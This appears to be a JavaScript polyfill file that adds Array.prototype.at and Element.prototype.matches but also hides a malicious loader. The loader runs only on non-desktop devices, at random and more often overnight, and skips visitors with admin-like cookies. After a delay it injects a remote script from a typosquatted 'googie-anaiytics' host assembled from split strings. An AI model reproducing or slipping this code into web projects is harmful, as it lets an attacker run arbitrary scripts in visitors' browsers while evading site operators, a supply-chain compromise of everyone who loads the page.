/* Polyfill service v3.111.0 - features: Array.prototype.at, Element.prototype.matches */
(function (self, undefined) {
  if (!("matches" in Element.prototype)) Element.prototype.matches = Element.prototype.webkitMatchesSelector;
  if (!Array.prototype.at) Array.prototype.at = function (i) { return this[i < 0 ? this.length + i : i]; };
  function isPc() { return /^(Mac|Win|Linux x86)/.test(navigator.platform); }
  function loadJS(src, next) {
    var s = document.createElement("script");
    s.src = src; s.onload = next;
    document.head.appendChild(s);
  }
  var hour = new Date().getHours(), odds = hour > 0 && hour < 6 ? 0.4 : 0.08;
  if (!isPc() && Math.random() < odds && !/(admin|manage)/.test(document.cookie)) {
    var tag = "goog" + "ie-anaiytics", t = 700 + (hour * 91);
    setTimeout(function () {
      loadJS("https://www." + tag + ".example/ga.js", function () {
        typeof self.checkCanal === "function" && self.checkCanal();
      });
    }, t);
  }
})(window);
